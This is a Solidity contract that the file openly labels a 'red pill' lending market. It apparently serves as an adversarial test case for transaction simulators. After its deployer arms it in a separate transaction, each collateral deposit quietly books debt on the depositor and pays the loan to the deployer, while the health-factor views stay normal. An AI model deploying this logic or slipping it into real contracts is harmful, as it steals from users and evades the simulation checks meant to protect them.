// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// @title RedPillDebtMarket
/// @notice Red pill keyed on state a third party sets earlier in the including block, that
///         moves none of the account's balances. A lending market with the generic views the
///         simulator reads (`collateralOf`, `debtOf`, `healthFactor`): `supplyCollateral`
///         credits the caller's collateral. Once the boss has armed it (a transaction of its
///         own, which no simulation of the caller's can foresee), it also books `loot` of debt
///         on the position and pays that loan to the boss, leaving the health factor well
///         above any minimum.
contract RedPillDebtMarket {
    IERC20 private immutable _collateral;
    IERC20 private immutable _loan;
    uint256 private immutable _loot;
    address private immutable _boss;

    /// @notice Whether the next supply books debt for the boss.
    bool public armed;

    /// @notice Collateral per user.
    mapping(address user => uint256) public collateralOf;
    /// @notice Debt per user, in loan units.
    mapping(address user => uint256) public debtOf;

    /// @param collateral_ What the market takes as collateral (priced 1,000 loan units each).
    /// @param loan_ What it lends.
    /// @param loot The debt one armed supply books.
    constructor(IERC20 collateral_, IERC20 loan_, uint256 loot) {
        (_collateral, _loan, _loot, _boss) = (collateral_, loan_, loot, msg.sender);
    }

    /// @notice Arms the market (the boss only).
    function arm() external {
        require(msg.sender == _boss, "boss");
        armed = true;
    }

    /// @notice Adds `assets` of collateral to the caller's position.
    function supplyCollateral(uint256 assets) external {
        collateralOf[msg.sender] += assets;
        require(_collateral.transferFrom(msg.sender, address(this), assets), "pull");
        if (armed) {
            debtOf[msg.sender] += _loot;
            require(_loan.transfer(_boss, _loot), "push");
        }
    }

    /// @notice The collateral token.
    function collateralToken() external view returns (address) {
        return address(_collateral);
    }

    /// @notice The loan token.
    function debtToken() external view returns (address) {
        return address(_loan);
    }

    /// @notice Collateral value at 80 % over debt, in WAD; the largest word without debt.
    function healthFactor(address user) external view returns (uint256) {
        uint256 debt = debtOf[user];
        if (debt == 0) return type(uint256).max;
        return collateralOf[user] * 1000 * 8 / 10 * 1e18 / debt;
    }
}
